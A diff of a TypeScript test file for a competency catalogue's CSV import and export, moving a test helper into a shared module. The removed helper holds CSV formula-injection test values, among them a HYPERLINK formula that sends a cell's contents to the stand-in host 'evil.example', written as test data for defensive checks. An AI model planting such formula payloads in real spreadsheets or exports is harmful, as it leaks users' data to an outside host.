@@ -2,25 +2,9 @@ import { decodeCsv, exportCsv, importCsv, parseCsv } from '../../src/core/catalo
 import { defaultCatalogue } from '../../src/core/catalogue/load';
 import { catalogueTable } from '../../src/core/catalogue/table';
 import { DataError } from '../../src/core/schema';
-import { catalogueCopy, excelCsv, windows1257 } from './helpers';
+import { catalogueCopy, excelCsv, formulaCatalogue, windows1257 } from './helpers';
 
 // Issue 10, items 5 and 6: what Excel does with the CSV, both ways.
-
-/** A catalogue whose texts begin the way spreadsheet formulas do. */
-function formulaCatalogue() {
-  const c = catalogueCopy();
-  const [a, b] = c.competencies;
-  a.name.et = '=HYPERLINK("https://evil.example/?q="&A1,"Kliendikesksus")';
-  a.name.en = '+1+1';
-  a.description.et = '-2+3';
-  a.description.en = '@SUM(A1:A9)';
-  a.indicators.et[0] = '\tTab ees';
-  a.indicators.et[1] = "'apostroof ees";
-  a.indicators.en[0] = "'=juba kaitstud";
-  b.description.et = '\rCR ees';
-  b.keywords = ['=x', 'y'];
-  return c;
-}
 
 /** The raw cells of an RFC 4180 line (no apostrophe removed): what Excel itself reads. */
 function rawCells(line: string): string[] {
